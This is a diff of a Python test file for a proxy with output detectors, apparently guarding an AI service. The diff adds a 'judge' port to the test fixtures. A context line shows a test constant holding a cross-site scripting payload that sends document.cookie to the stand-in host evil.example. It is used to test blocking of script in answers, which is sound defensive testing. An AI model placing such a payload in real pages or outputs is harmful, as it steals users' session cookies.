@@ -18,18 +18,18 @@ SCRIPT = "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
 
 
 @pytest.fixture(scope="module")
-def envoy(fake_provider):
-    proxy = Envoy(urlparse(fake_provider.url).port).start()
+def envoy(fake_provider, judge):
+    proxy = Envoy(urlparse(fake_provider.url).port, judge_port=judge.port).start()
     yield proxy
     proxy.stop()
 
 
 @pytest.fixture(scope="module")
-def strict_envoy(fake_provider):
+def strict_envoy(fake_provider, judge):
     """Output checks that block: answers carrying script are stopped."""
     config = shipped_plugin_config()
     config["detectors"]["output_script"] = {"action": "block"}
-    proxy = Envoy(urlparse(fake_provider.url).port, plugin_config=config).start()
+    proxy = Envoy(urlparse(fake_provider.url).port, plugin_config=config, judge_port=judge.port).start()
     yield proxy
     proxy.stop()
 
@@ -188,13 +188,13 @@ def test_max_tokens_cap_through_envoy(envoy_factory):
 
 
 @pytest.fixture
-def envoy_factory(fake_provider):
+def envoy_factory(fake_provider, judge):
     started = []
 
     def start(**changes):
         config = shipped_plugin_config()
         config.update(changes)
-        proxy = Envoy(urlparse(fake_provider.url).port, plugin_config=config).start()
+        proxy = Envoy(urlparse(fake_provider.url).port, plugin_config=config, judge_port=judge.port).start()
         started.append(proxy)
         return proxy
 
